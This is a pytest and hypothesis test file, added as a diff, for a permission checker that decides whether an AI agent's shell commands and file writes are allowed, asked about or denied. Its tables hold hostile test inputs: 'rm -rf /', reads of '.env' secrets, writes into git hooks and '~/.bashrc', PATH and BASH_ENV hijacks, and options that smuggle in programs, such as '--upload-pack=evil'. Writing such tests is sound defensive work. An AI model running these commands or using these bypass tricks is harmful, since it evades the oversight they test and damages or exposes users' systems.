@@ -1,0 +1,410 @@
+"""What rules and grants say of an act: what is forbidden is never done, what is dangerous is asked for every time."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from holdfast import errors, types
+from holdfast.tools import dangers, permits, port
+
+FOLDER = "/work/project"
+
+
+def law(**said: list[str]) -> permits.Law:
+    says: tuple[permits.Say, ...] = ("deny", "ask", "allow")
+    rules = tuple(permits.rule(say, text) for say in says for text in said.get(say, []))
+    return permits.Law(rules, FOLDER, "/home/me")
+
+
+def run(line: str, tool: str = "shell", folder: str = FOLDER) -> port.Act:
+    commands, danger = dangers.described(line)
+    return port.Act(tool=tool, kind="run", summary=line, detail=line, commands=commands, paths=(folder,), danger=danger)
+
+
+def act(tool: str, kind: port.Kind = "change", *paths: str, **more: Any) -> port.Act:
+    return port.Act(tool=tool, kind=kind, summary=tool, paths=paths, **more)
+
+
+def grants(*rules: str) -> list[types.Grant]:
+    return [
+        types.Grant(id=number, owner="", rule=rule, conversation_id=None, at=0.0, by="me")
+        for number, rule in enumerate(rules, 1)
+    ]
+
+
+# --- command lines -------------------------------------------------------------------------------------
+
+LINES: list[tuple[dict[str, list[str]], str, str]] = [
+    ({}, "ls", "ask"),
+    ({"allow": ["shell"]}, "ls", "allow"),
+    ({"allow": ["shell"]}, "for x in *; do wc $x; done > out", "allow"),
+    ({"allow": ["shell"]}, "rm -rf /", "ask"),
+    ({"allow": ["shell"]}, "$X", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff", "allow"),
+    ({"allow": ["shell(git diff)"]}, "git diff HEAD a", "allow"),
+    ({"allow": ["shell(git diff)"]}, "git diff --stat", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff -- a", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff a=b", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff +a", "ask"),
+    ({"allow": ["shell(git diff *)"]}, "git diff", "allow"),
+    ({"allow": ["shell(git diff *)"]}, "git diff --stat -- a=b", "allow"),
+    ({"allow": ["shell(git diff *)"]}, "git push", "ask"),
+    ({"allow": ["shell(git diff *)"]}, "git diff --ext-diff > x", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git difftool", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git push", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff; git push", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff | tee x", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff > x", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff 2>/dev/null", "allow"),
+    ({"allow": ["shell(git diff)"]}, "git diff $(git push)", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git diff $x", "ask"),
+    ({"allow": ["shell(git diff)"]}, "git $x", "ask"),
+    ({"allow": ["shell(git diff)"]}, "cd src && git diff", "ask"),
+    ({"allow": ["shell(git diff) in src/**"]}, "cd src/a && git diff", "allow"),
+    ({"allow": ["shell(git diff) in src/**"]}, "cd src/../x && git diff", "ask"),
+    ({"allow": ["shell(git diff) in src/**"]}, "git diff", "ask"),
+    ({"allow": ["shell(git diff) in **"]}, "cd src && git diff", "allow"),
+    ({"allow": ["shell(git diff)"]}, "timeout 9 git diff", "ask"),
+    ({"allow": ["shell(git diff)"]}, "bash -c 'git diff'", "ask"),
+    ({"allow": ["shell(git diff)"]}, "/tmp/git diff", "ask"),
+    ({"allow": ["shell(git diff)"]}, "FOO=1 git diff", "ask"),
+    ({"allow": ["shell(git diff)"]}, "echo hi", "ask"),
+    ({"allow": ["shell(git diff)"]}, "echo hi && git diff; true", "allow"),
+    ({"allow": ["shell(echo)"]}, "echo hi", "allow"),
+    ({"allow": ["shell(=make test)"]}, "make test", "allow"),
+    ({"allow": ["shell(=make test)"]}, "make test SHELL=x", "ask"),
+    ({"allow": ["shell(=make test)"]}, "make  test", "ask"),
+    ({"allow": ["shell(=uv run pytest > out)"]}, "uv run pytest > out", "allow"),
+    ({"allow": ["shell(=rm -rf /)"]}, "rm -rf /", "ask"),
+    ({"allow": ["start_process(ls)"]}, "ls", "ask"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git log", "allow"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git push", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git -C x push", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "/usr/bin/git push", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "GIT push", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "FOO=1 git push", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "echo $(git push)", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git push --force", "deny"),
+    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git commit -m push", "allow"),
+    ({"deny": ["shell(rm)"]}, "rm -rf /", "deny"),
+    ({"deny": ["shell(rm)"]}, "find . -exec rm {} +", "deny"),
+    ({"deny": ["shell(rm)"]}, "ls | xargs rm", "deny"),
+    ({"deny": ["shell(rm)"]}, "env A=1 nohup timeout 5 rm x", "deny"),
+    ({"deny": ["shell(rm)"]}, "bash -c 'ls; rm x'", "deny"),
+    ({"deny": ["shell(rm)"]}, "if true; then rm x; fi", "deny"),
+    ({"deny": ["shell(rm *)"]}, "rm x", "deny"),
+    ({"deny": ["shell"]}, "ls", "deny"),
+    ({"deny": ["*"], "allow": ["shell"]}, "ls", "deny"),
+    ({"allow": ["shell"], "ask": ["shell(git push)"]}, "git push", "ask"),
+    ({"allow": ["shell"], "ask": ["shell(git push)"]}, "git $x", "ask"),
+    ({"allow": ["shell"], "ask": ["shell(git push)"]}, "git pull", "allow"),
+    ({"allow": ["shell"], "deny": ["write_file(secret/**)"]}, "echo x > secret/y", "deny"),
+    ({"allow": ["shell"], "deny": ["write_file(secret/**)"]}, "echo x > a/../SECRET/y", "deny"),
+    ({"allow": ["shell"], "deny": ["write_file(secret/**)"]}, "echo x > other", "allow"),
+    ({"allow": ["shell"], "deny": ["write_file"]}, "echo x > other", "deny"),
+    ({"allow": ["shell"], "deny": ["write_file(~/notes/**)"]}, "echo x > ~/notes/y", "deny"),
+    ({"allow": ["shell"], "deny": ["write_file(~/notes/**)"]}, "echo x > $HOME/notes/y", "deny"),
+    ({"allow": ["shell"], "deny": ["shell(make) in vendor/**"]}, "make", "allow"),
+]
+
+
+@pytest.mark.parametrize(("said", "line", "verdict"), LINES)
+def test_every_command_of_a_line_must_be_covered(said: dict[str, list[str]], line: str, verdict: str) -> None:
+    assert permits.decide(run(line), law(**said)).say == verdict
+
+
+# What stands on the left is allowed; nothing of what is on the right follows from it.
+NOT_COVERED: list[tuple[tuple[str, ...], list[str]]] = [
+    # bash and eval have variables and redirections of their own
+    (
+        ("shell(ls)",),
+        ["BASH_ENV=./env.sh bash -c ls", "PATH=./evil bash -c ls", "eval ls > pwn", "bash -c ls > ~/.bashrc",
+         "nohup bash -c ls > .git/hooks/x", "bash -c ls > src/main.py", 'ls\nbash -c "ls" > .git/hooks/pre-commit'],
+    ),
+    # what stands in a file becomes a command
+    (
+        ("shell(cat)", "shell(ls)"),
+        ["[[ $(cat data.txt) -eq 0 ]]", '[ -v "$(cat data.txt)" ]; ls', "echo ${HOME:$(cat data.txt)}; ls",
+         "test -v \"$(printf 'a[$(touch pwn)]')\" ; ls"],
+    ),
+    # the shell's own commands change the shell
+    (
+        ("shell(cat)", "shell(ls)", "shell(git diff)"),
+        ["printf -v PATH %s ./evil; cat x", "printf -v PS4 '$(echo PS4 >> pwn)'; set -x; ls", "read PATH < f; ls",
+         "printf -v 'BASH_CMDS[ls]' %s ./evil/ls; ls", "sleep 0.1 & wait -n -p 'a[$(echo WAIT >> pwn)]'; ls",
+         "wait -p 'a[$(touch pwn)]' -n; ls", "set -k; git diff GIT_EXTERNAL_DIFF=evil/evil.sh", "local PATH=./evil; ls",
+         "pushd /evil; ls; popd; cat x", "popd +1; ls"],
+    ),
+    # options that run programs
+    (("shell(git grep)",), ["git grep --open-files-in-pager=evil x", "git grep '-Otouch pwn #' foo"]),
+    (("shell(git ls-remote)",), ["git ls-remote --upload-pack=evil ."]),
+    (("shell(git push)",), ["git push --receive-pack=evil x", "git push --exec=./evil ../x"]),
+    (("shell(git fetch)",), ["git fetch --upload-pac=evil .", "x=--upload-pack=./evil; git fetch $x ."]),
+    (("shell(git log)",), ["git log --outpu=src/x"]),
+    (("shell(sort)",), ["sort --compress-prog=evil x"]),
+    (("shell(go vet)",), ["go vet --vettool=evil"]),
+    (("shell(make test)",), ["make test SHELL=evil/evil.sh", "make test -f evil.mk", "make -C evil test"]),
+    (("shell(git diff)",), ["x=--output=src/main.py; git diff $x", "echo push | xargs -I diff git diff"]),
+    (("shell(rg)",), ["x=--pre=./evil; rg $x foo"]),
+    (("shell",), ["tar xf a --checkpoint=1 --checkpoint-act=exec=evil", "tar -xOI evil -f a"]),
+    # words read otherwise than the program reads them
+    (
+        ("shell(cat)", "shell(echo)", "shell(find *)"),
+        ["sed -n p -e '1e echo SED >> pwn' README.md", "python -W ignore -c 'evil'", "env -C /evil cat x",
+         "find . -maxdepth 0 -exec xargs -I + sh -c 'touch pwn' \\;", "echo sh | xargs -I cat cat -c 'touch pwn'"],
+    ),
+    # elsewhere
+    (("shell(make test)", "shell(cat)"), ["cd sub && make test", "cd /evil && cat x", "env -C evil make test"]),
+    (("shell(uniq)", "shell(date)", "shell(pytest)"), ["uniq in .git/hooks/x", "date -s tomorrow", "pytest -p evil"]),
+    (("shell(curl)", "shell(xxd)"), ["curl -o/home/u/.bashrc http://e", "xxd -r p .git/hooks/pre-commit"]),
+    (("shell(cat)", "shell(tee)"), ["cat .env", "cat .e*", "cat prod.env", "x=.env; cat $x", "tee .bashrc < x"]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("rules", "line"), [(rules, line) for rules, lines in NOT_COVERED for line in lines])
+def test_a_narrow_rule_covers_nothing_more_than_its_words(rules: tuple[str, ...], line: str) -> None:
+    assert permits.decide(run(line), law(allow=list(rules))).say == "ask"
+    assert permits.decide(run(line), law(), grants(*rules, *(f"{rule} in {FOLDER}" for rule in rules[1:]))).say == "ask"
+
+
+# What is forbidden on the left may hide on the right: a person is asked, whatever else is allowed.
+MAY_HIDE: list[tuple[str, list[str]]] = [
+    ("shell(git status)", ["x=status; git $x", "git -C $x log", "git $x status"]),
+    (
+        "shell(rm)",
+        ["$y", "xargs < list env", "timeout -s KILL 5 rm x", "alias ls=rm; ls", "env $x y",
+         "echo x | xargs -I % $y", "find . -exec $x {} +", "bash -c \"$x\"", "awk 'BEGIN{system(\"rm x\")}'", "echo 'x",
+         "ls ${x@P}", "cat <<E\nx"],
+    ),
+    (
+        "write_file(private/**)",
+        ["echo x > $y", "cd $y && echo x > b", "cd a; cd private; echo x > b", "false && cd a; echo x > private/b",
+         "tee private/b", "cp a private/b", "cd - && echo x > b", "echo x > priv*/b", "eval $x"],
+    ),
+    ("read_file(private/**)", ["cat private/a", "cd private && cat a", "wc < private/a", "cat < $x"]),
+    ("shell(make) in vendor/**", ["cd vendor/x && make"]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("rule", "line"), [(rule, line) for rule, lines in MAY_HIDE for line in lines])
+def test_where_something_forbidden_may_hide_only_a_person_can_allow_it(rule: str, line: str) -> None:
+    said = permits.decide(run(line), law(deny=[rule], allow=["shell"]), grants("shell"))
+    assert (said.say, said.maybe_denied, said.remembers) == ("ask", True, ())
+
+
+@pytest.mark.parametrize(
+    ("rule", "line"),
+    [
+        ("write_file(private/**)", "cd private && echo x > b.txt"),
+        ("write_file(private/**)", "cd private; echo x > b.txt"),
+        ("write_file(config/**)", "bash -c 'echo hi' > config/x"),
+        ("shell(rm)", "rm x; $y"),
+        ("shell(git push)", "git push; awk '{system(1)}'"),
+        ("edit_file(private/**)", "echo x > private/b"),
+        ("write_file(private/**)", "pushd private; echo x > b"),
+        ("shell(rm)", "hash -p /bin/rm ls; ls"),
+        ("shell(python)", "python $x"),
+        ("shell(docker run)", "docker run $x"),
+        ("shell(sudo)", "sudo $x"),
+        ("shell(rm)", "sh -c 'r\"\"m x' $y"),
+    ],
+)
+def test_what_is_forbidden_is_found_beside_what_is_not_understood(rule: str, line: str) -> None:
+    assert permits.decide(run(line), law(deny=[rule], allow=["shell"])).say == "deny"
+
+
+@pytest.mark.parametrize(
+    ("rule", "line"),
+    [
+        ("shell(git push)", "make > build.log 2>&1"),
+        ("shell(git push)", "timeout 60 pytest -q"),
+        ("shell(git push)", "git diff $x"),
+        ("shell(git stash drop)", "git diff $x"),
+        ("shell(rm)", "find . -name '*.py' -exec wc -l {} +"),
+        ("shell(rm)", "grep rm src"),
+        ("shell(rm)", "for f in a b; do wc $f; done"),
+        ("write_file(private/**)", "cd src && make > build.log"),
+        ("write_file(private/**)", "echo x > /tmp/a"),
+    ],
+)
+def test_what_cannot_be_the_forbidden_is_not_held_up(rule: str, line: str) -> None:
+    assert permits.decide(run(line), law(deny=[rule], allow=["shell"])).say == "allow"
+
+
+def test_what_one_tool_may_not_do_its_like_may_not() -> None:
+    assert permits.decide(run("rm x", "start_process"), law(deny=["shell(rm)"])).say == "deny"
+    edit = act("edit_file", "change", "/work/project/private/x")
+    assert permits.decide(edit, law(deny=["write_file(private/**)"])).say == "deny"
+    assert permits.decide(run("ls", "start_process"), law(allow=["shell(ls)"])).say == "ask"
+
+
+def test_a_permission_holds_where_it_was_given() -> None:
+    given = grants(*permits.remembers(run("./build.sh"), law()))
+    assert permits.decide(run("./build.sh"), law(), given).say == "allow"
+    assert permits.decide(run("./build.sh", folder="/work/cloned"), law(), given).say == "ask"
+    cloned = permits.Law((), "/work/cloned")
+    assert permits.decide(run("./build.sh", folder="/work/cloned"), cloned, given).say == "ask"
+    looks = grants(*permits.remembers(run("git status"), law()))
+    assert permits.decide(run("git status"), law(), looks).say == "allow"
+    assert permits.decide(run("git status", folder=f"{FOLDER}/node_modules/evil"), law(), looks).say == "ask"
+    rules = law(allow=["shell(make test)", "shell(=make)"])
+    for line in ("make test", "make"):
+        assert permits.decide(run(line), rules).say == "allow"
+        assert permits.decide(run(line, folder=f"{FOLDER}/node_modules/evil"), rules).say == "ask"
+
+
+# --- files and the rest --------------------------------------------------------------------------------
+
+FILES: list[tuple[dict[str, list[str]], port.Act, str]] = [
+    ({}, act("read_file", "look", "/work/project/a"), "allow"),
+    ({}, act("read_file", "look", "/work/project/.env", danger="It may hold keys."), "ask"),
+    ({"allow": ["read_file"]}, act("read_file", "look", "/work/project/.env", danger="It may hold keys."), "ask"),
+    ({"deny": ["read_file(**/.env)"]}, act("read_file", "look", "/work/project/x/.env", danger="Keys."), "deny"),
+    ({"deny": ["read_file(**/.env)"]}, act("read_file", "look", "/work/project/x/.ENV"), "deny"),
+    ({"ask": ["read_file(/work/other/**)"]}, act("read_file", "look", "/work/other/x"), "ask"),
+    ({}, act("write_file", "change", "/work/project/a"), "ask"),
+    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/work/project/src/a/b"), "allow"),
+    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/work/project/srcx/b"), "ask"),
+    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/elsewhere/src/b"), "ask"),
+    ({"allow": ["write_file(src/*)"]}, act("write_file", "change", "/work/project/src/a/b"), "ask"),
+    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/work/project/src/a", "/etc/x"), "ask"),
+    ({"allow": ["write_file(~/notes/*)"]}, act("write_file", "change", "/home/me/notes/a"), "allow"),
+    ({"allow": ["write_file(src/**)"]}, act("edit_file", "change", "/work/project/src/a"), "ask"),
+    ({"allow": ["write_file(src)"]}, act("write_file", "change"), "ask"),
+    ({}, act("github__list", "reach"), "ask"),
+    ({"allow": ["github__*"]}, act("github__list", "reach"), "allow"),
+    ({"allow": ["github__*"]}, act("gitlab__list", "reach"), "ask"),
+    ({"allow": ["github__*"], "deny": ["github__delete"]}, act("github__delete", "reach"), "deny"),
+    ({"allow": ["custom"]}, act("custom", "run"), "allow"),
+    ({"allow": ["custom"], "deny": ["custom(rm)"]}, act("custom", "run", detail="ls"), "ask"),
+]
+
+
+@pytest.mark.parametrize(("said", "what", "verdict"), FILES)
+def test_every_path_of_an_act_must_be_covered(said: dict[str, list[str]], what: port.Act, verdict: str) -> None:
+    assert permits.decide(what, law(**said)).say == verdict
+
+
+def test_a_grant_counts_before_a_rule_that_asks_and_not_before_one_that_forbids() -> None:
+    given = grants("shell(git push)")
+    assert permits.decide(run("git push"), law(ask=["shell(git push)"]), given).say == "allow"
+    assert permits.decide(run("git push"), law(ask=["shell(git push)"], allow=["shell"])).say == "ask"
+    assert permits.decide(run("git push"), law(deny=["shell(git push)"]), given).say == "deny"
+    assert permits.decide(run("git push -f"), law(), given).say == "ask"
+    assert permits.decide(run("git $x"), law(deny=["shell(git push)"]), grants("shell(git *)")).say == "ask"
+
+
+def test_the_verdict_names_the_rule() -> None:
+    assert permits.decide(run("git diff"), law(allow=["shell(git diff)"])).by == "rule: allow shell(git diff)"
+    assert permits.decide(run("git diff"), law(), grants("shell(git diff)")).by == "grant 1: shell(git diff)"
+    assert permits.decide(run("git push"), law(deny=["shell(git)"])).by == "rule: deny shell(git)"
+
+
+def test_a_grant_that_cannot_be_read_allows_nothing() -> None:
+    assert (
+        permits.decide(run("ls"), law(), grants("shell(", "", "shell()", "sh ell", "shell(env)", "shell(> x)")).say
+        == "ask"
+    )
+
+
+# --- what is remembered --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("what", "rules"),
+    [
+        (run("git diff HEAD"), (f"shell(git diff) in {FOLDER}",)),
+        (run("git diff | head x"), (f"shell(git diff) in {FOLDER}", f"shell(head) in {FOLDER}")),
+        (run("git diff | head -5"), (f"shell(=git diff | head -5) in {FOLDER}",)),
+        (run("cd src && git diff"), (f"shell(=cd src && git diff) in {FOLDER}",)),
+        (run("rm build.log"), (f"shell(=rm build.log) in {FOLDER}",)),
+        (run("rm 'a b'"), (f"shell(=rm 'a b') in {FOLDER}",)),
+        (run("ls > out.txt"), (f"shell(=ls > out.txt) in {FOLDER}",)),
+        (run("echo ') in /'"), (f"shell(=echo ') in /') in {FOLDER}",)),
+        (run("uv run pytest"), (f"shell(=uv run pytest) in {FOLDER}",)),
+        (run("docker exec db psql"), (f"shell(=docker exec db psql) in {FOLDER}",)),
+        (run("cargo run"), (f"shell(=cargo run) in {FOLDER}",)),
+        (run("gh api user"), (f"shell(=gh api user) in {FOLDER}",)),
+        (run("uniq in out"), (f"shell(=uniq in out) in {FOLDER}",)),
+        (run("frobnicate $x"), (f"shell(=frobnicate $x) in {FOLDER}",)),
+        (run("make test", "start_process"), (f"start_process(=make test) in {FOLDER}",)),
+        (run("make", folder="/work/a (b)"), ()),
+        (run("make", folder="/work/a*"), ()),
+        (run("make\nls"), ()),
+        (run("make "), ()),
+        (run("rm -rf /"), ()),
+        (run("python -c x"), ()),
+        (run("$X"), ()),
+        (act("write_file", "change", "/work/project/src/a.py"), ("write_file(/work/project/src/**)",)),
+        (act("write_file", "change", "/elsewhere/a.py"), ("write_file(/elsewhere/a.py)",)),
+        (act("write_file", "change", "/work/project/a*b"), ()),
+        (act("write_file", "change", "/work/project/a", "/work/project/b*"), ()),
+        (act("write_file", "change", "/work/project/a\nb/c"), ()),
+        (act("write_file", "change", "/work/project/x", danger="Look."), ()),
+        (act("github__list", "reach"), ("github__list",)),
+        (act("custom", "run"), ()),
+    ],
+)
+def test_what_would_be_remembered(what: port.Act, rules: tuple[str, ...]) -> None:
+    assert permits.remembers(what, law()) == rules
+    if rules:
+        assert permits.decide(what, law(), grants(*rules)).say == "allow"
+
+
+WORD = st.sampled_from(
+    ["git", "diff", "rm", "-r", "push", "ls", "$x", "*", "> out", "&&", ";", "|", "make", "echo", "'a b'"]
+)
+
+
+@given(st.lists(WORD, max_size=8).map(" ".join))
+def test_for_any_line_what_is_remembered_allows_that_line(line: str) -> None:
+    what = run(line)
+    rules = permits.remembers(what, law())
+    if rules:
+        assert permits.decide(what, law(), grants(*rules)).say == "allow"
+
+
+@given(st.lists(WORD, max_size=8).map(" ".join), st.lists(WORD, max_size=8).map(" ".join))
+def test_for_any_line_what_one_is_granted_for_never_allows_a_dangerous_one(first: str, second: str) -> None:
+    rules = permits.remembers(run(first), law())
+    if run(second).danger:
+        assert permits.decide(run(second), law(), grants(*rules)).say == "ask"
+
+
+@given(st.text(), st.sampled_from(["allow", "ask", "deny"]))
+def test_for_any_text_a_rule_is_read_or_refused(text: str, say: permits.Say) -> None:
+    try:
+        rule = permits.rule(say, text)
+    except errors.SettingInvalid:
+        return
+    permits.decide(run("ls"), permits.Law((rule,)))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "shell(",
+        "shell()",
+        "sh ell",
+        "shell(a",
+        "a)b",
+        "shell('x)",
+        "shell(\x1b)",
+        "s*l",
+        "shell(ls) in",
+        "shell in x",
+        "shell(> x)",
+        "shell(uv run pytest)",
+        "shell(python *)",
+        "start_process(env)",
+        "shell(a | b)",
+    ],
+)
+def test_a_rule_that_cannot_be_read_is_refused_with_its_place(text: str) -> None:
+    with pytest.raises(errors.SettingInvalid, match=r"`permissions\.allow`"):
+        permits.rule("allow", text, "`permissions.allow`: ")
